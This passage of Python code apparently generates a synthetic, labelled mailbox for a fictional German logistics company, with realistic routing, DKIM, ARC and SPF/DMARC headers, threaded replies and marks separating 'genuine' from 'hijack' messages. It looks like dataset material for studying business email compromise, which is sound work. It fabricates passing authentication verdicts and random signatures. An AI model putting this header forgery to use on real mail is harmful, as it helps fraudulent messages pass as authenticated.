        h.append(("Received", f"from {src} ({rd})\n    by smtp.strato.example (RZmta 51.3.0 AUTH)\n"
                              f"    with ESMTPSA id {alnum(1).lower()}{hx(6)}{alnum(7)}\n    (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n"
                              f"    (Client did not present a certificate)\n    for <{me.email}>;\n    {loc(t0, BER)} ({t0.astimezone(BER).tzname()})"))
        h.append(("X-RZG-AUTH", f":{alnum(40)}="))
        h.append(("X-RZG-CLASS-ID", "mo00"))
        return h
    if infra in ("gmx", "webde"):
        mr = "mrgmx" if infra == "gmx" else "mrweb"
        if client == "gmxweb":
            n = R.choice((14, 27, 41, 52))
            h.append(("Received", f"from {mr}{R.randint(100, 115)} ([212.227.17.{R.randint(160, 190)}]) by mail.gmx.net ({mr}{R.randint(100, 115)}) with ESMTPSA (Nemesis) id 1M{alnum(5)}-1t{alnum(9)}; {loc(dsec(t, 0, 1), BER)}"))
            h.append(("Received", f"from 3c-app-gmx-bap{n} ([{who.ip}]) by web-mail.gmx.net\n (3c-app-gmx-bap{n}.server.lan [172.19.172.{R.randint(60, 130)}]) (via HTTP); {loc(t0, BER)}"))
        else:
            host = "mail.gmx.net" if infra == "gmx" else "web.de"
            h.append(("Received", f"from [10.{R.randint(100, 220)}.{R.randint(0, 255)}.{R.randint(1, 254)}] ([{orig_ip or who.ip}]) by {host} ({mr}{R.randint(100, 115)}\n"
                                  f" [212.227.15.{R.randint(10, 60)}]) with ESMTPSA (Nemesis) id 1M{alnum(5)}-1t{alnum(9)}; {loc(t0, BER)}"))
        return h
    if infra == "cpanel-autohaus":
        h.append(("Received", f"from [{orig_ip}] (port={R.randint(50000, 65000)} helo=webmail.autohaus-terhorst.example)\n\tby server17.webhost-nrw.example with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                              f"\t(Exim 4.97.1)\n\t(envelope-from <{env}>)\n\tid 1t{alnum(4)}-0000{alnum(2)}-{alnum(2)}\n\tfor {me.email};\n\t{loc(t0, BER)}"))
        return h
    if infra in ("vps-fp", "vps-kroll", "vps-novadata"):
        helo = INFRA[infra][0]
        h.append(("Received", f"from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTPSA id {HX(10)}\n\tfor <{me.email}>; {loc(t0, UTC)}"))
        return h
    if infra == "list":
        mdom = who.dom
        h.append(("Received", f"from mail.{mdom} (mail.{mdom} [{orig_ip or '85.13.' + str(R.randint(128, 170)) + '.' + str(R.randint(2, 250))}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n"
                              f"\t(No client certificate requested)\n\tby lists.vlnr.example (Postfix) with ESMTPS id {HX(10)}\n\tfor <ak-dispo@lists.vlnr.example>; {postfix_date(t0)}"))
        return h
    return h


def auth_results(who, infra, env, fromdom, arc=False, list_dkim=None):
    helo, ip, d, s, envdom, dmarc = INFRA[infra]
    parts = []
    if list_dkim: parts.append(f"dkim=pass header.d={list_dkim} header.s=mm3 header.b={alnum(8)}")
    if s: parts.append(f"dkim=pass header.d={d} header.s={s} header.b={alnum(8)}")
    if infra == "sendgrid": parts.append(f"dkim=pass header.d=sendgrid.info header.s=smtpapi header.b={alnum(8)}")
    if infra == "ses": parts.append(f"dkim=pass header.d=amazonses.com header.s=r3tn7ukmkrcbrfr4eezflpiarn6zgjpt header.b={alnum(8)}")
    if infra == "zendesk": parts.append(f"dkim=pass header.d=zendesk.com header.s=zendesk2 header.b={alnum(8)}")
    if not parts: parts.append("dkim=none")
    if arc: parts.append('arc=pass ("microsoft.com:s=arcselector10001:i=1")')
    parts.append(f"spf=pass ({GW}: domain of {env} designates {ip} as permitted sender) smtp.mailfrom={env}")
    aligned = bool(s and (d == fromdom or fromdom.endswith("." + d) or d.endswith("." + fromdom))) or (envdom is None) or infra == "list"
    if dmarc: parts.append(f"dmarc={'pass' if aligned else 'fail'} (policy={dmarc}) header.from={fromdom}")
    else: parts.append(f"dmarc=none")
    return f"{GW};\n\t" + ";\n\t".join(parts)


def rspamd(qid, infra, atts):
    helo, ip, d, s, envdom, dmarc = INFRA[infra] if infra in INFRA else (None,) * 6
    sym = []
    if dmarc: sym.append(f"DMARC_POLICY_ALLOW(-0.50)[{d or 'none'},{dmarc}]")
    else: sym.append("DMARC_NA(0.00)[]")
    sym.append("R_SPF_ALLOW(-0.20)[+ip4]" if ip else "R_SPF_NA(0.00)[]")
    sym.append(f"R_DKIM_ALLOW(-0.20)[{d}:s=" + str(s) + "]" if s else "R_DKIM_NA(0.00)[]")
    sym.append("MIME_GOOD(-0.10)[multipart/mixed]" if atts else "MIME_GOOD(-0.10)[multipart/alternative,text/plain]")
    sym += [f"ASN(0.00)[asn:{R.choice((8075, 8560, 15169, 16509, 12876, 3320, 5432, 200484))}, ipnet:{ip.rsplit('.', 2)[0]}.0.0/16, country:{R.choice(('DE', 'DE', 'NL', 'IE', 'US'))}]" if ip else "ASN(0.00)[]",
            f"RCPT_COUNT_ONE(0.00)[1]", "TO_DN_ALL(0.00)[]", "FROM_HAS_DN(0.00)[]", "RCVD_TLS_LAST(0.00)[]", "ARC_NA(0.00)[]"]
    score = round(-0.6 - R.random() * 2.2 + (0 if dmarc else 0.3), 2)
    return [("X-Rspamd-Queue-Id", qid), ("X-Rspamd-Server", "mx1"), ("X-Spamd-Result", f"default: False [{score:.2f} / 15.00];\n\t" + ";\n\t".join(sym)),
            ("X-Rspamd-Action", "no action"), ("X-Spamd-Bar", "-" * max(1, int(-score)))]


def transport(who, t, client, infra, env=None, orig_ip=None, atts=(), fromdom=None):
    v = exv(t)[0]
    tx = dsec(t, 3, 14); fromdom = fromdom or who.dom
    if infra in ("internal", "tms", "iphoneint"):
        top = [("Received", f"from RPS-EX01.rheinport.local (10.20.1.11) by RPS-EX01.rheinport.local\n (10.20.1.11) with Microsoft SMTP Server (version=TLS1_2,\n"
                            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {v} via Mailbox\n Transport; {loc(dsec(t, 1, 2), BER)}")]
        if infra == "tms":
            top.append(("Received", f"from rps-tms01.rheinport.local (10.20.2.40) by RPS-EX01.rheinport.local\n (10.20.1.11) with Microsoft SMTP Server id {v} via Frontend Transport;\n {loc(t, BER)}"))
        else:
            top.append(("Received", f"from RPS-EX01.rheinport.local (10.20.1.11) by RPS-EX01.rheinport.local\n (10.20.1.11) with Microsoft SMTP Server (version=TLS1_2,\n"
                                    f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {v}; {loc(dsec(t, 0, 1), BER)}"))
            top.append(("Received", f"from RPS-EX01.rheinport.local ([fe80::5d1:3a2c:9b0e:71f4]) by\n RPS-EX01.rheinport.local ([fe80::5d1:3a2c:9b0e:71f4%4]) with mapi id\n {exv(t)[1]}; {loc(t, BER)}"))
        return top, []
    helo, ip, d, s, envdom, dmarc = INFRA[infra]
    env = env or who.email
    if envdom and infra == "sendgrid": env = f"bounces+41872653-{hx(4)}-{me.email.replace('@', '=')}@{envdom}"
    elif envdom and infra == "ses": env = f"0107019{hx(9)}-{ruuid()}-000000@{envdom}"
    elif envdom and infra == "zendesk": env = f"support+id{R.randint(10**6, 10**7)}@{envdom}"
    elif envdom and infra == "esp-news": env = f"b-{hx(10)}-{R.randint(10**5, 10**6)}@{envdom}"
    elif envdom and infra == "list": env = "ak-dispo-bounces@lists.vlnr.example"
    qid = pqid()
    top = [("Return-Path", f"<{env}>"),
           ("Received", f"from RPS-EX01.rheinport.local (10.20.1.11) by RPS-EX01.rheinport.local\n (10.20.1.11) with Microsoft SMTP Server (version=TLS1_2,\n"
                        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {v} via Mailbox\n Transport; {loc(dsec(tx, 1, 2), BER)}"),
           ("Received", f"from {GW} (10.20.1.25) by RPS-EX01.rheinport.local\n (10.20.1.11) with Microsoft SMTP Server (version=TLS1_2,\n"
                        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {v} via Frontend\n Transport; {loc(dsec(tx, 0, 1), BER)}"),
           ("Received", f"from {helo} ({helo} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
                        f"\t(No client certificate requested)\n\tby {GW} (Postfix) with ESMTPS id {qid}\n\tfor <{me.email}>; {postfix_date(tx)}"),
           ("Authentication-Results", auth_results(who, infra, env.split("@")[-1] if infra in ("sendgrid", "ses", "zendesk", "esp-news", "list") else env, fromdom,
                                                   arc=infra.startswith("exo") or infra == "outlookcom", list_dkim=None))]
    top += rspamd(qid, infra, atts)
    hops = sender_hops(who, client, infra, t, env, orig_ip)
    sig = []
    if infra.startswith("exo") or infra == "outlookcom":
        sig += [("ARC-Seal", f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={b64(256)}"),
                ("ARC-Message-Signature", f"i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={b64(32)};\n b={b64(256)}"),
                ("ARC-Authentication-Results", f"i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={fromdom}; dmarc=pass action=none\n header.from={fromdom}; dkim=pass header.d={d}; arc=none")]
    if s:
        hl = {"gmail": "h=to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to",
              "weidner": "h=from:to:subject:date:message-id:references:in-reply-to:mime-version", "sendgrid": "h=content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to"}.get(infra,
              "h=From:Date:Subject:Message-ID:Content-Type:MIME-Version")
        sig.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c={'simple/simple' if infra == 'weidner' else 'relaxed/relaxed'}; d={d};\n s={s}; t={int(t.timestamp())}; {hl};\n bh={b64(32)};\n b={b64(256 if infra in ('weidner', 'gmail') else 128)}"))
    if infra == "sendgrid": sig.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d=sendgrid.info;\n\th=content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to;\n\ts=smtpapi; bh={b64(32)};\n\tb={b64(128)}"))
    if infra == "ses": sig.append(("DKIM-Signature", f"v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple;\n\ts=r3tn7ukmkrcbrfr4eezflpiarn6zgjpt; d=amazonses.com; t={int(t.timestamp())};\n\th=From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID;\n\tbh={b64(32)};\n\tb={b64(128)}"))
    if infra == "weidner":
        sig = [("IronPort-SDR", f"67{hx(6)}_{alnum(60)}"), ("X-IPAS-Result", f"A2G{alnum(40)}"),
               ("X-IronPort-AV", f'E=Sophos;i="6.{R.choice((11, 12, 13))},{R.randint(100, 999)},{int(t.timestamp()) // 86400 * 86400 - 7200}";\n   d="scan\'{R.choice(("208", "208,217"))}";a="{R.randint(10**6, 10**7)}"')] + sig
    return top + hops + sig, []


CLANG = {"ol19": "de-DE", "exode": "de-DE", "ex16": "de-DE", "hx19": "de-DE", "exonl": "nl-NL", "exoro": "ro-RO", "olios": "en-US", "outlookcom": "de-DE", "smtpauth": "de-DE"}
UA = {"tbde": ("User-Agent", "Mozilla Thunderbird"), "ol16pl": ("X-Mailer", "Microsoft Outlook 16.0"), "ol16": ("X-Mailer", "Microsoft Outlook 16.0"),
      "iphoneexo": ("X-Mailer", "iPhone Mail (22E252)"), "iphoneint": ("X-Mailer", "iPhone Mail (22D82)"), "apple": ("X-Mailer", "Apple Mail (2.3826.400.131.1.6)"),
      "ox": ("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev69"), "roundcube": ("User-Agent", "Roundcube Webmail/1.6.9"),
      "roundcubede": ("User-Agent", "Roundcube Webmail/1.6.10"), "zendesk": ("X-Mailer", "Zendesk Mailer"),
      "tms": ("X-Mailer", "DISPOnova Mail 9.3.2"), "phpmailer": ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")}
MSF = {"ol19", "exode", "ex16", "hx19", "exonl", "exoro", "olios", "outlookcom", "smtpauth"}


def ew(s, utf=True):
    """RFC 2047 encoded words (Q), split so that each word stays short"""
    if s.isascii(): return s
    cs = "utf-8" if utf else "iso-8859-1"
    try: data = s.encode(cs)
    except UnicodeEncodeError: cs, data = "utf-8", s.encode("utf-8")
    words, cur = [], ""
    i = 0
    chars = list(s)
    for ch in chars:
        b = ch.encode(cs)
        enc = "_" if ch == " " else (ch if (ch.isascii() and ch.isalnum()) or ch in "-.!*+/" else "".join(f"={x:02X}" for x in b))
        if len(cur) + len(enc) > 45: words.append(cur); cur = ""
        cur += enc
    if cur: words.append(cur)
    return "\n ".join(f"=?{cs}?Q?{w}?=" for w in words)


def addr(n, e, client=""):
    if not n: return e
    if not n.isascii(): return f"{ew(n, utf=client not in ('ol19', 'ex16', 'hx19', 'exode'))} <{e}>"
    return f'"{n}" <{e}>' if any(c in n for c in ".,|()@:") else f"{n} <{e}>"


pending = []
seq = [0]
G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)
CTX = "ctx"


def emit(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), label=None, infra=None, env=None, frm=None,
         irt=None, mid=None, tidx=None, topic=None, scen=None, folder=None, no_html=False, orig_ip=None, reply_to=None, quote=None, fromdom=None,
         date_tz=None):
    m = mid or make_mid(who, client, t)
    infra = infra or who.infra
    folder = folder or ("Sent" if who is me else "INBOX")
    fromh = frm or addr(who.disp, who.email, client)
    toh = ", ".join(addr(n, e, client) for n, e in to)
    cch = ", ".join(addr(n, e, client) for n, e in cc) if cc else None
    if client in ("exode", "exonl", "exoro", "olios", "outlookcom", "smtpauth", "ses", "zendesk"): date = utcs(t)
    elif client == "sendgrid": date = t.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S +0000")
    else: date = loc(t, date_tz or who.tz)
    sj = ew(subj, utf=client not in ("ol19", "ex16", "hx19", "exode"))
    h = []; tail = []
    if folder == "INBOX":
        tr, tail = transport(who, t, client, infra, env, orig_ip, atts, fromdom)
        h += tr
    fam = ("ms" if client in MSF else "gmail" if client.startswith("gmail") else "tb" if client == "tbde" else
           "apple" if client in ("apple", "iphoneexo", "iphoneint") else "gmx" if client in ("gmxweb", "gmxapp", "webdeapp") else
           "ms16" if client in ("ol16pl", "ol16", "strato") else "bulk")
    R_ = ([("In-Reply-To", irt or refs[-1]), ("References", "\n ".join(refs))] if refs else [])
    if fam == "ms":
        h += [("From", fromh), ("To", toh)] + ([("CC", cch)] if cch else []) + [("Subject", sj)]
        if client != "smtpauth":
            h += [("Thread-Topic", ew(topic or subj.split(": ", 1)[-1], utf=client not in ("ol19", "ex16", "hx19", "exode"))),
                  ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())]
        h += [("Date", date), ("Message-ID", m)] + ([("References", "\n ".join(refs)), ("In-Reply-To", irt or refs[-1])] if refs else [])
        if reply_to: h.append(("Reply-To", reply_to))
        if client != "smtpauth":
            h += [("Accept-Language", CLANG[client] + (", en-US" if CLANG[client] != "en-US" else "")), ("Content-Language", CLANG[client]),
                  ("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if who.dom == "schuermann-stahl.example" and client == "exode":
            h.append(("msip_labels", "MSIP_Label_3d7c41a2-8f1e-4c5b-9a07-2be6f1c0d9a4_Enabled=True;\n MSIP_Label_3d7c41a2-8f1e-4c5b-9a07-2be6f1c0d9a4_SiteId=" + TENANT["schuermann-stahl.example"]
                      + ";\n MSIP_Label_3d7c41a2-8f1e-4c5b-9a07-2be6f1c0d9a4_Name=Intern;\n MSIP_Label_3d7c41a2-8f1e-4c5b-9a07-2be6f1c0d9a4_ContentBits=0;\n MSIP_Label_3d7c41a2-8f1e-4c5b-9a07-2be6f1c0d9a4_Method=Standard"))
        if client == "ol19" and folder == "INBOX": h.append(("x-originating-ip", f"[10.20.10.{R.randint(30, 90)}]"))
        if client == "ex16": h.append(("x-originating-ip", f"[172.16.20.{R.randint(40, 80)}]"))
        if client == "hx19": h.append(("x-originating-ip", "[62.154.201.36]"))
        if client in ("exode", "exonl", "exoro", "olios", "outlookcom", "smtpauth"):
            host, reg = (EXOH.get(who) or getattr(who, "exo", None) or ("FR3P281MB1647", "DEUP281"))
            if client == "outlookcom": host, reg = "DB9P189MB1988", "EURP189"
            h += [("x-ms-publictraffictype", "Email"), ("x-ms-traffictypediagnostic", f"{host}:EE_|{host[:-4]}{R.randint(1000, 9999)}:EE_"),
                  ("x-ms-office365-filtering-correlation-id", ruuid())]
            tnt = TENANT.get(who.dom, TENANT["outlook.com"])
            tail = [("X-MS-Exchange-CrossTenant-AuthAs", "Internal"), ("X-MS-Exchange-CrossTenant-AuthSource", f"{host}.{reg}.PROD.OUTLOOK.COM" if reg.isupper() else f"{host}.{reg}.prod.outlook.com"),
                    ("X-MS-Exchange-CrossTenant-Network-Message-Id", ruuid()), ("X-MS-Exchange-CrossTenant-originalarrivaltime", f"{t.astimezone(UTC):%d %b %Y %H:%M:%S.%f}"[:-3] + " (UTC)"),
                    ("X-MS-Exchange-CrossTenant-fromentityheader", "Hosted"), ("X-MS-Exchange-CrossTenant-id", tnt), ("X-MS-Exchange-CrossTenant-mailboxtype", "HOSTED"),
                    ("X-MS-Exchange-CrossTenant-userprincipalname", b64(48)), ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", host[:-4] + str(R.randint(1000, 9999)))]
    elif fam == "ms16":
        h += [("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + ([("References", "\n\t".join(refs)), ("In-Reply-To", irt or refs[-1])] if refs else [])
        h += [("Subject", sj), ("Date", date), ("Message-ID", m)]
        if reply_to: h.append(("Reply-To", reply_to))
        h += [UA.get(client, ("X-Mailer", "Microsoft Outlook 16.0")), ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode()),
              ("Content-Language", {"ol16pl": "pl", "ol16": "de", "strato": "de"}[client])]
    elif fam == "gmail":
        h += [("MIME-Version", "1.0")] + ([("References", " ".join(refs)), ("In-Reply-To", irt or refs[-1])] if refs else [])
        h += [("From", fromh), ("Date", date), ("Message-ID", m), ("Subject", sj), ("To", toh)] + ([("Cc", cch)] if cch else [])
    elif fam == "tb":
        h += [("Message-ID", m), ("Date", date), ("MIME-Version", "1.0"), UA["tbde"], ("Subject", sj), ("Content-Language", "de-DE"), ("To", toh)]
        h += ([("Cc", cch)] if cch else []) + ([("References", "\n ".join(refs))] if refs else []) + [("From", fromh)] + ([("In-Reply-To", irt or refs[-1])] if refs else [])
    elif fam == "apple":
        h += [("From", fromh), ("Mime-Version", "1.0 (1.0)" if client != "apple" else "1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))"), ("Subject", sj), ("Date", date), ("Message-Id", m)]
        h += ([("References", "\n ".join(refs)), ("In-Reply-To", irt or refs[-1])] if refs else []) + ([("Cc", cch)] if cch else []) + [("To", toh), UA[client]]
        if client == "iphoneexo":
            h += [("Thread-Topic", ew(topic or subj.split(": ", 1)[-1])), ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())]
    elif fam == "gmx":
        h += [("MIME-Version", "1.0"), ("Message-ID", m), ("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Subject", sj), ("Date", date)]
        h += [("Importance", "normal"), ("Sensitivity", "Normal")] + ([("In-Reply-To", irt or refs[-1]), ("References", "\n ".join(refs))] if refs else [])
        h += [("X-Priority", "3"), ("X-UI-Message-Type", "mail"), ("X-Provags-ID", f"V03:K1:{alnum(66)}"), ("X-UI-Out-Filterresults", f"notjunk:1;V03:K0:{alnum(11)}=;{alnum(120)}")]
    else:
        h += [("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Subject", sj), ("Date", date), ("Message-ID", m)] + R_
        if reply_to: h.append(("Reply-To", reply_to))
        if client in UA: h.append(UA[client])
        if client == "ox": h += [("Importance", "Normal"), ("X-Priority", "3"), ("X-Originating-Client", "open-xchange-appsuite")]
        if client in ("roundcube", "roundcubede"): h.append(("X-Sender", who.email))
    if fam in ("gmail", "tb", "gmx", "apple") and reply_to: h.append(("Reply-To", reply_to))
    if client == "ionos" or infra == "ionos": h += [("X-Provags-ID", f"V03:K1:{alnum(66)}"), ("UI-OutboundReport", f"notjunk:1;M01:P0:{alnum(11)}=;{alnum(90)}")]
    h += list(extra)
    if fam in ("ms", "ms16", "bulk") and client not in ("iphoneexo",): h.append(("MIME-Version", "1.0"))
    if folder == "INBOX":
        if infra in ("internal", "iphoneint"):
            tail += [("X-MS-Exchange-Organization-AuthAs", "Internal"), ("X-MS-Exchange-Organization-AuthMechanism", "04"), ("X-MS-Exchange-Organization-AuthSource", "RPS-EX01.rheinport.local"),
                     ("X-MS-Exchange-Organization-Network-Message-Id", ruuid())]
        else:
            tail += [("X-MS-Exchange-Organization-Network-Message-Id", ruuid()), ("X-MS-Exchange-Organization-AuthSource", "RPS-EX01.rheinport.local"),
                     ("X-MS-Exchange-Organization-AuthAs", "Anonymous"), ("X-MS-Exchange-Transport-EndToEndLatency", f"00:00:{R.randint(1, 9):02d}.{R.randint(1000000, 9999999)}")]
    h += tail
    # ---- body
    if html is None and not no_html:
        body_only = plain if quote is None else plain[:len(plain) - len(render_quote_plain(*quote))]
        html = html_of(client, body_only, quote)
    bnd = {"ms": lambda: "_000_" + (hx(32) + "RPSEX01rheinportlocal_" if client == "ol19" else hx(32) + "WCUEXMB02weidnerlocal_" if client == "ex16"
                                    else hx(32) + "EXMBX04hostedexchangeexample_" if client == "hx19" else HX(40) + "_"),
           "ms16": lambda: f"----=_NextPart_000_{HX(4)}_{HX(8)}.{HX(8)}", "gmail": lambda: "0000000000" + hx(16), "tb": lambda: "------------" + alnum(24),
           "apple": lambda: "Apple-Mail-" + ruuid().upper(), "gmx": lambda: "=_" + hx(8) + "-" + hx(4) + "-" + hx(4),
           "bulk": lambda: "----=_Part_" + str(R.randint(10**5, 10**6)) + "_" + str(R.randint(10**8, 10**9)) + "." + str(int(t.timestamp() * 1000))}[fam]

    def textpart(ctype, text):
        data = text.encode("utf-8")
        if fam == "tb" and ctype == "text/plain":
            return ["Content-Type: text/plain; charset=UTF-8; format=flowed", "Content-Transfer-Encoding: " + ("7bit" if text.isascii() else "8bit"), "", text]
        if fam == "gmail":
            if text.isascii() and max(len(x) for x in text.split("\n")) < 900: return [f'Content-Type: {ctype}; charset="UTF-8"', "", text]
            return [f'Content-Type: {ctype}; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if fam == "apple" and text.isascii():
            return [f"Content-Type: {ctype};\n\tcharset=us-ascii", "Content-Transfer-Encoding: 7bit", "", text]
        cs = '"utf-8"' if fam in ("ms", "ms16") else "utf-8" if fam == "apple" else "UTF-8"
        sep = ";\n\t" if fam == "apple" else "; "
        return [f"Content-Type: {ctype}{sep}charset={cs}", "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]

    alt = textpart("text/plain", plain)
    if html:
        ab = bnd(); alt = [f'Content-Type: multipart/alternative;\n\tboundary="{ab}"', "", f"--{ab}"] + textpart("text/plain", plain) + [f"--{ab}"] + textpart("text/html", html) + [f"--{ab}--"]
    if atts:
        mb = bnd(); body = [f'Content-Type: multipart/mixed;\n\tboundary="{mb}"', "", f"--{mb}"] + alt
        for name, data, ctype in atts:
            b64d = base64.encodebytes(data).decode().rstrip("\n")
            if fam == "ms":
                ts = t.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f"Content-Description: {name}",
                         f'Content-Disposition: attachment; filename="{name}"; size={len(data)};\n\tcreation-date="{ts}";\n\tmodification-date="{ts}"',
                         "Content-Transfer-Encoding: base64", "", b64d]
            elif fam == "gmail":
                aid = f"f_{alnum(9).lower()}0"
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64",
                         f"Content-ID: <{aid}>", f"X-Attachment-Id: {aid}", "", b64d]
            elif fam == "apple":
                body += [f"--{mb}", "Content-Disposition: attachment;\n\tfilename=" + f'"{name}"', f"Content-Type: {ctype};\n\tx-unix-mode=0644;\n\tname=\"{name}\"",
                         "Content-Transfer-Encoding: base64", "", b64d]
            else:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64", "", b64d]
        body += [f"--{mb}--", ""]
    else:
        body = alt + ([""] if html else [])
    hdr = "\r\n".join(f"{k}: {v}".replace("\n", "\r\n") for k, v in h)
    raw = hdr + "\r\n" + "\r\n".join(body).replace("\r\n", "\n").replace("\n", "\r\n") + "\r\n"
    seq[0] += 1
    pending.append((t.astimezone(UTC) + datetime.timedelta(seconds=15 if folder == "INBOX" else 0), seq[0], folder, raw, (m, label) if label and label != CTX else None, scen))
    return m


def ft_bytes(t):
    ft = int((t.timestamp() + 11644473600) * 10**7)
    return ft.to_bytes(8, "big")[:6]


PFX = {"ol19": "AW: ", "exode": "AW: ", "ex16": "AW: ", "hx19": "AW: ", "ol16pl": "RE: ", "exonl": "RE: ", "exoro": "RE: ", "olios": "Re: ",
       "outlookcom": "AW: ", "ol16": "AW: ", "iphoneexo": "Re: ", "iphoneint": "Re: ", "apple": "Re: ", "tbde": "Re: ", "gmailpl": "Re: ", "gmailen": "Re: ",
       "gmxweb": "Aw: ", "gmxapp": "Re: ", "webdeapp": "Re: ", "ox": "AW: ", "roundcube": "Re: ", "roundcubede": "Re: ", "strato": "AW: ", "smtpauth": "AW: "}


class Thread:
    def __init__(s, tid, partner, subj, inbox_to=None):
        s.tid, s.p, s.subj, s.refs, s.last, s.inbox_to = tid, partner, subj, [], None, inbox_to
        s.tbase = None; s.blocks = []; s.np = 0; s.recs = []

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, scen=None, quote_text=None,
            detached=False, sigtext=None, refs=None, qrec=None, **kw):
        client = client or who.client
        body = text + ((sigtext if sigtext is not None else who.sig) if sig else "")
        q = None
        base = s.recs[qrec] if qrec is not None else s.last
        if quote and base:
            last = dict(base)
            if quote_text is not None: last["plain"] = quote_text
            q = quote_parts(client, last)
        plain = body + (render_quote_plain(*q) if q else "")
        if subj is None:
            subj = s.subj if not s.refs else (PFX.get(client, "Re: ") + s.subj)
        if to is None: to = [(s.p.name, s.p.email)] if who is me else (s.inbox_to or [(me.name, me.email)])
        refs = list(s.refs) if refs is None else refs
        if label is None and who is not me and refs: label = G
        if label == G and scen is None:
            s.np += 1; scen = (f"P-{s.tid}-{s.np}", f"plain in-thread reply from {who.name} in {s.tid} '{s.subj}'")
        if s.tbase is None: s.tbase = b"\x01" + ft_bytes(t)[:5] + rbytes(16)
        while len(s.blocks) < len(refs): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(refs)])).decode()
        m = emit(who, client, t, to, cc, subj, refs, plain, label=label, topic=s.subj, scen=scen, quote=q, **kw)
        if detached: return m
        s.refs.append(m)
        s.last = dict(t=t, name=who.name, disp=who.disp, email=who.email, plain=plain, subj=subj, to=to, cc=cc or [])
        s.recs.append(s.last)
        return m


# ---------------------------------------------------------------------------------------------------------------- notifications
def notice(who, client, t, subj, plain, html, extra=(), label=None, scen=None, to=None, atts=(), refs=(), reply_to=None, mid=None):
    return emit(who, client, t, to or [(me.name, me.email)], None, subj, list(refs), plain, html=html, atts=atts, extra=extra, label=label,
                scen=scen, reply_to=reply_to, mid=mid)


TMS_URL = "http://rps-tms01.rheinport.local/disponova/#/auftrag/"


def tms_note(t, order, status, lines, label=None, scen=None, atts=(), subj=None, to=None):
    link = TMS_URL + order
    plain = (f"DISPOnova Statusmeldung\n\nAuftrag:   {order}\nStatus:    {status}\n" + "\n".join(lines)
             + f"\n\nAuftrag im DISPOnova Web-Client öffnen:\n{link}\n\n-- \nAutomatisch erzeugte Nachricht von DISPOnova 9.3 (rps-tms01). Bitte nicht antworten.\n"
             f"Benachrichtigungen verwalten: Extras > Optionen > Ereignisse")
    rows = "".join(f"<tr><td style='padding:2px 12px 2px 0;color:#555'>{H.escape(l.split(':', 1)[0])}:</td><td>{H.escape(l.split(':', 1)[1].strip())}</td></tr>"
                   for l in [f"Auftrag: {order}", f"Status: {status}"] + lines if ":" in l)
    html = ("<html><head><meta http-equiv='Content-Type' content='text/html; charset=utf-8'></head><body style='font-family:Segoe UI,Arial;font-size:10pt'>"
            f"<h3 style='color:#00467f'>DISPOnova Statusmeldung</h3><table>{rows}</table><p><a href='{link}'>Auftrag im Web-Client öffnen</a></p>"
            "<p style='color:#888;font-size:8pt'>Automatisch erzeugte Nachricht von DISPOnova 9.3 (rps-tms01). Bitte nicht antworten.</p></body></html>")
    return notice(tms, "tms", t, subj or f"[DISPOnova] Auftrag {order}: {status}", plain, html, label=label, scen=scen, atts=atts, to=to,
                  extra=[("Auto-Submitted", "auto-generated"), ("X-DISPOnova-Event", status.split()[0].upper()), ("X-DISPOnova-Order", order)])


def fp_alert(t, route, offers, label=None, scen=None):
    sa = "SA-22" + str(R.randint(10, 99))
    items = []
